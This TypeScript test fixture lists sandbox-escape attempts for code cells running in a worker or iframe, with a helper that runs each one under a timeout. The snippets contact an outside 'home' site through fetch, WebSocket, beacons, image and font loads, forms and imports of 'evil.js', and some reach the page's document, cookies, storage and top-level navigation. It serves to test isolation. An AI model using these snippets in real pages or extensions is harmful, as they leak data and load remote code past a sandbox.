/**
 * What a hostile cell may try: the body of an async function that is given the address of another site, and gives `true` where it got what it
 * wanted; or that leaves a trace at that site.
 */
export interface Attack {
  name: string;
  body: string;
  /** The path asked for at the other site when it succeeds. */
  trace?: string;
  /** Where it succeeds in every engine when there is no sandbox, so that the tests see that they would notice. */
  works: readonly ("worker" | "frame")[];
}

const both = ["worker", "frame"] as const;
const wait = "await new Promise((r) => setTimeout(r, 200)); return false";
const blob = "URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))";

/** Attacks of a cell, in its worker. */
export const attacks: Attack[] = [
  { name: "fetch", body: "return !!(await fetch(home + '/fetch'))", works: both },
  {
    name: "fetch without CORS",
    body: "return !!(await fetch(home + '/no-cors', { mode: 'no-cors', keepalive: true }))",
    works: both,
  },
  {
    name: "XMLHttpRequest",
    body: "const r = new XMLHttpRequest(); r.open('GET', home + '/xhr', false); r.send(); return true",
    works: both,
  },
  {
    name: "WebSocket",
    body: `new WebSocket(home.replace('http', 'ws') + '/socket'); ${wait}`,
    trace: "/socket",
    works: both,
  },
  {
    name: "EventSource",
    body: `new EventSource(home + '/events'); ${wait}`,
    trace: "/events",
    works: both,
  },
  {
    name: "import from the network",
    body: "return !!(await import(home + '/evil.js'))",
    works: both,
  },
  {
    name: "import of what is not there",
    body: `import(home + '/module.js').catch(() => 0); ${wait}`,
    trace: "/module.js",
    works: both,
  },
  {
    name: "importScripts",
    body: "importScripts(home + '/scripts.js'); return true",
    trace: "/scripts.js",
    works: ["worker"],
  },
  { name: "a worker from the network", body: `new Worker(home + '/evil.js'); ${wait}`, works: [] },
  {
    name: "a nested worker that fetches",
    body: `const code = "fetch('" + home + "/nested').then(() => postMessage(1), () => postMessage(0))";
      const worker = new Worker(${blob});
      return await new Promise((r) => { worker.onmessage = (e) => r(e.data === 1); worker.onerror = () => r(false); })`,
    works: both,
  },
  {
    name: "a blob module that fetches",
    body: `const code = "export default fetch('" + home + "/blob')"; return !!(await (await import(${blob})).default)`,
    works: both,
  },
  {
    name: "a data: module",
    body: "return (await import('data:text/javascript,export default 1')).default === 1",
    works: ["frame"],
  },
  { name: "eval", body: "return (0, eval)('1 + 1') === 2", works: both },
  { name: "new Function", body: "return new Function('return 2')() === 2", works: both },
  {
    name: "a beacon",
    body: `navigator.sendBeacon(home + '/beacon'); ${wait}`,
    trace: "/beacon",
    works: ["frame"],
  },
  {
    name: "an image beacon",
    body: `new Image().src = home + '/image'; ${wait}`,
    trace: "/image",
    works: ["frame"],
  },
  {
    name: "a font",
    body: "await new FontFace('x', 'url(' + home + '/font)').load(); return true",
    trace: "/font",
    works: ["frame"],
  },
  {
    name: "WebTransport",
    body: "await new WebTransport(home.replace('http:', 'https:') + '/transport').ready; return true",
    works: [],
  },
  { name: "the page's document", body: "return !!parent.document.body", works: ["frame"] },
  {
    name: "cookies",
    body: "document.cookie = 'evil=1'; return document.cookie !== ''",
    works: ["frame"],
  },
  { name: "the cookie store", body: "await cookieStore.set('evil', '1'); return true", works: [] },
  {
    name: "localStorage",
    body: "localStorage.setItem('evil', '1'); return true",
    works: ["frame"],
  },
  {
    name: "IndexedDB",
    body: `const request = indexedDB.open('evil');
      return await new Promise((r) => { request.onsuccess = () => r(true); request.onerror = () => r(false); })`,
    works: both,
  },
  { name: "the page's caches", body: "return await caches.has('secret')", works: both },
  { name: "files", body: "await navigator.storage.getDirectory(); return true", works: [] },
  {
    name: "memory shared with the page",
    body: "return new SharedArrayBuffer(8).byteLength === 8",
    works: [],
  },
];

const element = (tag: string, properties: string): string =>
  `const e = document.createElement('${tag}'); Object.assign(e, ${properties}); document.body.append(e);`;

/** Attacks of a script that has got into the frame itself. */
export const frameAttacks: Attack[] = [
  ...attacks.filter(({ name }) => name !== "importScripts"),
  {
    name: "framing the network",
    body: `${element("iframe", "{ src: home + '/frame' }")} ${wait}`,
    trace: "/frame",
    works: ["frame"],
  },
  {
    name: "a form",
    body: `${element("iframe", "{ name: 'target' }")}
      const form = document.createElement('form'); Object.assign(form, { action: home + '/form', target: 'target' });
      document.body.append(form); form.submit(); ${wait}`,
    trace: "/form?",
    works: ["frame"],
  },
  {
    name: "a script from the network",
    body: `${element("script", "{ src: home + '/script.js' }")} ${wait}`,
    trace: "/script.js",
    works: ["frame"],
  },
  {
    name: "a style from the network",
    body: `${element("link", "{ rel: 'stylesheet', href: home + '/style.css' }")} ${wait}`,
    trace: "/style.css",
    works: ["frame"],
  },
  { name: "a window", body: "return !!window.open(home + '/window')", works: [] },
];

/** The last attack, for where there is no sandbox it takes the page away. */
export const navigation: Attack = {
  name: "top navigation",
  body: `top.location.href = home + '/top'; ${wait}`,
  trace: "/top",
  works: [],
};

/** An attack as an expression: a promise of what it gave, in at most two seconds. */
export const attempt = ({ body }: Attack, home: string): string =>
  `Promise.race([(async (home) => { ${body} })(${JSON.stringify(home)}), new Promise((r) => setTimeout(r, 2000))])
    .then((got) => got === true ? "got it" : "got nothing", (error) => "refused: " + error)`;
